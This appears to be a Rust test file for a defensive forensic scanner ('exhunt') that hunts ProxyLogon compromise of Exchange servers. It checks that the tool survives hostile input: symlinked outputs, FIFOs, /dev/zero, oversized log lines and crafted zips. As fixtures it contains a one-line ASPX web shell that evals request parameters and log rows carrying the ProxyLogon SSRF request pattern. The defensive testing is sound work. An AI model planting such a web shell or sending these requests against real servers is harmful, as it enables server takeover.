//! Hostile input (issue 13, defects 1, 2, 4 and 9): what an intruder who
//! expects a defender to run exhunt can leave on the server. Through the
//! real binary, each run with a time limit (a hang fails the test rather than
//! the suite) and, on Linux, a memory ceiling.

#![cfg(unix)]

mod common;

use common::*;
use exhunt_testgen::httpproxy::{self, attack, Format, Protocol, Traffic};
use exhunt_testgen::{SplitMix64, Time};
use serde_json::Value;
use std::io::Write;
use std::os::unix::fs::symlink;
use std::path::Path;
use std::time::Duration;
use tempfile::TempDir;

const T: Duration = Duration::from_secs(60);
const HOUR: Time = Time::utc(2021, 3, 3, 6, 0, 0);

fn mkfifo(p: &Path) {
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    let ok = std::process::Command::new("mkfifo")
        .arg(p)
        .status()
        .unwrap()
        .success();
    assert!(ok, "mkfifo {}", p.display());
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

/// An hour of OWA traffic with a ProxyLogon chain in it: a log that gives
/// an `exploited`-or-worse finding.
fn proxylogon_log() -> Vec<u8> {
    let mut rows = Traffic::new(3).hour(Protocol::Ecp, HOUR, 200);
    rows.extend(attack::proxylogon_chain(
        &mut SplitMix64::new(1),
        "203.0.113.9",
        HOUR.plus_secs(600),
    ));
    httpproxy::render(Format::Both, HOUR, &rows)
}

fn errors_naming<'a>(r: &'a Value, path_part: &str) -> Vec<&'a Value> {
    r["errors"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["path"].as_str().unwrap_or("").contains(path_part))
        .collect()
}

// Defect 1: an output path planted as a link to evidence.
#[test]
fn output_through_a_link_never_overwrites_evidence() {
    let d = TempDir::new().unwrap();
    let ev = d.path().join("ev");
    let out = d.path().join("out");
    std::fs::create_dir_all(&ev).unwrap();
    std::fs::create_dir_all(&out).unwrap();
    std::fs::write(ev.join("x.log"), "precious").unwrap();
    symlink(ev.join("x.log"), out.join("report.json")).unwrap();
    let before = fingerprint(&ev);
    let r = run_bounded(
        &[
            "scan",
            s(&ev),
            "-q",
            "-f",
            "json",
            "-o",
            s(&out.join("report.json")),
        ],
        T,
    );
    r.assert_within(500);
    assert_eq!(r.code, Some(2), "{}", r.stderr);
    assert!(r.stderr.contains("already exists"), "{}", r.stderr);
    assert_eq!(
        std::fs::read_to_string(ev.join("x.log")).unwrap(),
        "precious"
    );
    assert_eq!(before, fingerprint(&ev));
    // An existing plain file is not replaced either.
    std::fs::write(out.join("old.json"), "keep").unwrap();
    let r = run_bounded(
        &[
            "scan",
            s(&ev),
            "-q",
            "-f",
            "json",
            "-o",
            s(&out.join("old.json")),
        ],
        T,
    );
    assert_eq!(r.code, Some(2), "{}", r.stderr);
    assert_eq!(
        std::fs::read_to_string(out.join("old.json")).unwrap(),
        "keep"
    );
    // A new name is written.
    let r = run_bounded(
        &[
            "scan",
            s(&ev),
            "-q",
            "-f",
            "json",
            "-o",
            s(&out.join("new.json")),
        ],
        T,
    );
    r.assert_within(500);
    let written: Value =
        serde_json::from_slice(&std::fs::read(out.join("new.json")).unwrap()).unwrap();
    assert_eq!(written["schema"], "exhunt/report/v1");
}

#[test]
fn collect_output_and_its_hash_file_never_go_through_a_link() {
    let d = TempDir::new().unwrap();
    let ev = d.path().join("ev");
    std::fs::create_dir_all(&ev).unwrap();
    std::fs::write(ev.join("x.log"), "precious").unwrap();
    // The zip's own name planted as a link.
    symlink(ev.join("x.log"), d.path().join("c1.zip")).unwrap();
    let r = run_bounded(
        &["collect", "-q", "-o", s(&d.path().join("c1.zip")), s(&ev)],
        T,
    );
    assert_eq!(r.code, Some(2), "{}", r.stderr);
    // Its `.sha256` beside it planted as a link.
    symlink(ev.join("x.log"), d.path().join("c2.zip.sha256")).unwrap();
    let r = run_bounded(
        &["collect", "-q", "-o", s(&d.path().join("c2.zip")), s(&ev)],
        T,
    );
    assert_ne!(r.code, Some(0), "{}", r.stderr);
    assert_eq!(
        std::fs::read_to_string(ev.join("x.log")).unwrap(),
        "precious"
    );
}

// Defect 2: FIFOs, devices and links where exhunt reads.
#[test]
fn a_fifo_or_a_device_as_the_scan_path_is_an_error_not_a_clean_scan() {
    let d = TempDir::new().unwrap();
    let fifo = d.path().join("HttpProxy_2021030306-1.LOG");
    mkfifo(&fifo);
    for p in [s(&fifo), "/dev/zero"] {
        let r = run_bounded(&["scan", p, "-q", "-f", "json"], T);
        r.assert_within(500);
        let j = r.json();
        assert_eq!(j["incomplete"], true, "{p}: {j:#}");
        // Nothing read: inconclusive (5), and incomplete (+1).
        assert_eq!(j["verdict"], "inconclusive", "{p}: {j:#}");
        assert_eq!(r.code, Some(6), "{p}: {}", r.stderr);
        let errs = errors_naming(&j, p.rsplit('/').next().unwrap());
        assert!(
            errs.iter().any(|e| e["message"]
                .as_str()
                .unwrap()
                .contains("not a regular file")),
            "{p}: {j:#}"
        );
    }
}

#[test]
fn fifos_and_links_to_devices_inside_evidence_are_skipped_and_the_rest_is_read() {
    let d = TempDir::new().unwrap();
    let rel = httpproxy_rel("Ecp", "2021030306");
    put(d.path(), &rel, &proxylogon_log());
    let dir = d.path().join(&rel).parent().unwrap().to_path_buf();
    mkfifo(&dir.join("HttpProxy_2021030307-1.LOG"));
    symlink("/dev/zero", dir.join("HttpProxy_2021030308-1.LOG")).unwrap();
    let before = fingerprint(d.path());
    let r = run_bounded(&["scan", s(d.path()), "-q", "-f", "json"], T);
    r.assert_within(500);
    let j = r.json();
    assert!(
        matches!(j["verdict"].as_str(), Some("exploited" | "compromised")),
        "{j:#}"
    );
    let skipped = j["skipped"].as_array().unwrap();
    for name in ["HttpProxy_2021030307-1.LOG", "HttpProxy_2021030308-1.LOG"] {
        assert!(
            skipped
                .iter()
                .any(|x| x["path"].as_str().unwrap().ends_with(name)),
            "{name} not listed as skipped: {skipped:#?}"
        );
    }
    assert_eq!(before, fingerprint(d.path()));
}

#[test]
fn a_fifo_in_a_sigma_folder_and_iocs_from_dev_zero_neither_hang_nor_read_forever() {
    let d = TempDir::new().unwrap();
    let rules = d.path().join("rules");
    mkfifo(&rules.join("hang.yml"));
    std::fs::write(
        rules.join("ok.yml"),
        "title: ok\nid: 5b0c5f5e-1f6e-4c43-9a57-8d1f4a0e2a11\nlogsource:\n  category: webserver\ndetection:\n  sel:\n    cs-uri-query|contains: zzzz-not-there\n  condition: sel\nlevel: high\n",
    )
    .unwrap();
    let ev = d.path().join("ev");
    put(&ev, &httpproxy_rel("Ecp", "2021030306"), &proxylogon_log());
    let r = run_bounded(
        &["scan", s(&ev), "-q", "-f", "json", "--sigma", s(&rules)],
        T,
    );
    r.assert_within(500);
    let j = r.json();
    let fifo_rule = j["rules"]
        .as_array()
        .unwrap()
        .iter()
        .find(|x| x["origin"].as_str().unwrap().ends_with("hang.yml"))
        .unwrap_or_else(|| panic!("the FIFO is not listed: {:#}", j["rules"]));
    assert_eq!(fifo_rule["status"], "skipped");
    assert!(
        fifo_rule["reason"].as_str().unwrap().contains("FIFO"),
        "{fifo_rule:#}"
    );
    assert!(j["rules"].as_array().unwrap().iter().any(|x| x["origin"]
        .as_str()
        .unwrap()
        .ends_with("ok.yml")
        && x["status"] == "loaded"));

    // Indicators from /dev/zero, directly and through a link.
    symlink("/dev/zero", d.path().join("iocs.csv")).unwrap();
    for iocs in ["/dev/zero", s(&d.path().join("iocs.csv"))] {
        let r = run_bounded(&["scan", s(&ev), "-q", "-f", "json", "--iocs", iocs], T);
        r.assert_within(500);
        let all = format!("{}{}", String::from_utf8_lossy(&r.stdout), r.stderr);
        assert!(all.contains("character device"), "{iocs}: {all}");
    }
}

#[test]
fn a_fifo_or_a_linked_rule_in_a_yara_folder_is_listed_not_silently_dropped() {
    let d = TempDir::new().unwrap();
    let rules = d.path().join("yara");
    std::fs::create_dir_all(&rules).unwrap();
    mkfifo(&rules.join("hang.yar"));
    std::fs::write(
        d.path().join("real.yar"),
        "rule exhunt_test_linked { strings: $a = \"exhunt-linked-marker\" condition: $a }",
    )
    .unwrap();
    symlink(d.path().join("real.yar"), rules.join("linked.yar")).unwrap();
    let ev = d.path().join("ev");
    put(&ev, "loot/a.txt", b"exhunt-linked-marker");
    let r = run_bounded(
        &["scan", s(&ev), "-q", "-f", "json", "--yara", s(&rules)],
        T,
    );
    r.assert_within(1000);
    let j = r.json();
    let rules = j["rules"].as_array().unwrap();
    let fifo = rules
        .iter()
        .find(|x| x["origin"].as_str().unwrap().ends_with("hang.yar"))
        .unwrap_or_else(|| panic!("the FIFO .yar is not listed: {rules:#?}"));
    assert_ne!(fifo["status"], "loaded", "{fifo:#}");
    assert!(format!("{fifo}").contains("FIFO"), "{fifo:#}");
    let linked = rules
        .iter()
        .find(|x| x["origin"].as_str().unwrap().ends_with("linked.yar"))
        .unwrap_or_else(|| panic!("the linked .yar is not listed: {rules:#?}"));
    assert_eq!(linked["status"], "loaded", "{linked:#}");
}

// Defect 4: one line of an Exchange CSV log as long as an intruder likes.
#[test]
fn an_endless_csv_line_is_skipped_with_a_warning_under_a_memory_ceiling() {
    let d = TempDir::new().unwrap();
    let rel = httpproxy_rel("Ecp", "2021030306");
    let good = proxylogon_log();
    // The header and the first rows, a 96 MB line, then the rest.
    let split = good
        .iter()
        .enumerate()
        .filter(|(_, b)| **b == b'\n')
        .nth(5)
        .unwrap()
        .0
        + 1;
    let p = d.path().join(&rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    let mut f = std::fs::File::create(&p).unwrap();
    f.write_all(&good[..split]).unwrap();
    let chunk = vec![b'A'; 1 << 20];
    for _ in 0..96 {
        f.write_all(&chunk).unwrap();
    }
    f.write_all(b"\n").unwrap();
    f.write_all(&good[split..]).unwrap();
    drop(f);
    let r = run_bounded(&["scan", s(d.path()), "-q", "-f", "json", "-j1"], T);
    // The cap is 64 MB: the buffer stays at it, not at twice the line.
    r.assert_within(250);
    let j = r.json();
    assert!(
        matches!(j["verdict"].as_str(), Some("exploited" | "compromised")),
        "{j:#}"
    );
    let errs = errors_naming(&j, "HttpProxy_2021030306-1.LOG");
    assert!(
        errs.iter().any(|e| e["message"]
            .as_str()
            .unwrap()
            .contains("longer than 64 MB skipped (first: line 7)")),
        "{j:#}"
    );
}

// Defect 9: members of one zip under one path.
#[test]
fn same_named_zip_members_are_each_their_own_file() {
    let d = TempDir::new().unwrap();
    let zip_path = d.path().join("EX01.zip");
    let shell = |n: u8| {
        format!(
            "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"k{n}\"],\"unsafe\");%> // {n}"
        )
    };
    // The zip crate refuses a repeated name: write three names of one
    // length and make them equal in the bytes (names are not checksummed).
    let mut z = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for n in 1..=3u8 {
        z.start_file(
            format!("inetpub/wwwroot/aspnet_client/shel{n}.aspx"),
            zip::write::SimpleFileOptions::default()
                .compression_method(zip::CompressionMethod::Stored),
        )
        .unwrap();
        z.write_all(shell(n).as_bytes()).unwrap();
    }
    let mut bytes = z.finish().unwrap().into_inner();
    for n in [b'2', b'3'] {
        let from = [b"shel".as_slice(), &[n], b".aspx"].concat();
        let mut i = 0;
        while let Some(at) = bytes[i..].windows(from.len()).position(|w| w == from) {
            bytes[i + at + 4] = b'1';
            i += at + 1;
        }
    }
    std::fs::write(&zip_path, &bytes).unwrap();
    let out = d.path().join("copies");
    let r = run_bounded(
        &[
            "scan",
            s(&zip_path),
            "-q",
            "-f",
            "json",
            "--collect",
            s(&out),
        ],
        T,
    );
    r.assert_within(500);
    let j = r.json();
    let mut paths: Vec<&str> = j["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|f| f["path"].as_str())
        .filter(|p| p.contains("shel1.aspx"))
        .collect();
    paths.sort_unstable();
    paths.dedup();
    assert_eq!(paths.len(), 3, "{paths:#?}");
    let copies = fingerprint(&out.join("files"));
    let shells: Vec<_> = copies
        .iter()
        .filter(|(p, ..)| p.contains("shel1.aspx"))
        .collect();
    assert_eq!(shells.len(), 3, "{copies:#?}");
    let mut hashes: Vec<&String> = shells.iter().map(|(_, h, _)| h).collect();
    hashes.dedup();
    assert_eq!(hashes.len(), 3, "three different files: {copies:#?}");
}

// Defect 3: memory flat in the number of matching rows.
#[test]
fn a_million_matching_rows_stay_under_a_memory_ceiling_and_are_counted() {
    let d = TempDir::new().unwrap();
    const FILES: usize = 4;
    const ROWS: usize = 250_000;
    for k in 0..FILES {
        let p = d.path().join(httpproxy_rel(
            ["Ecp", "Owa", "Ews", "Mapi"][k],
            "2021030306",
        ));
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        let mut f = std::io::BufWriter::new(std::fs::File::create(&p).unwrap());
        writeln!(
            f,
            "#Fields: DateTime,RequestId,ClientIpAddress,AnchorMailbox,UrlStem,HttpStatus,Method"
        )
        .unwrap();
        for i in 0..ROWS {
            // Every row is the ProxyLogon SSRF, from many addresses.
            writeln!(
                f,
                "2021-03-03T{:02}:{:02}:{:02}.000Z,{k}-{i},198.51.{}.{},ServerInfo~a]@ex01.contoso.local:444/ecp/y{i}.ecp?#,/ecp/y.js,241,POST",
                6 + i / 3600 % 18,
                i / 60 % 60,
                i % 60,
                i / 256 % 256,
                i % 256
            )
            .unwrap();
        }
        f.flush().unwrap();
    }
    let r = run_bounded(
        &["scan", s(d.path()), "-q", "-f", "json"],
        Duration::from_secs(600),
    );
    r.assert_within(400);
    let j = r.json();
    assert_eq!(j["verdict"], "exploited", "{}", r.stderr);
    let listed = j["findings"].as_array().unwrap().len() as u64;
    let counted: u64 = j["suppressed"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["count"].as_u64().unwrap())
        .sum();
    // Every row is accounted for: listed one by one, or counted.
    assert_eq!(
        listed + counted,
        (FILES * ROWS) as u64,
        "{:#}",
        j["suppressed"]
    );
    assert!(listed <= 20_000, "{listed} findings listed");
    let s0 = &j["suppressed"][0];
    assert!(s0["clients"].as_array().unwrap().len() == 20, "{s0:#}");
    assert_eq!(s0["more_clients"], true, "{s0:#}");
    assert!(
        s0["sample"]
            .as_str()
            .unwrap()
            .contains("HttpProxy_2021030306-1.LOG:"),
        "{s0:#}"
    );
}
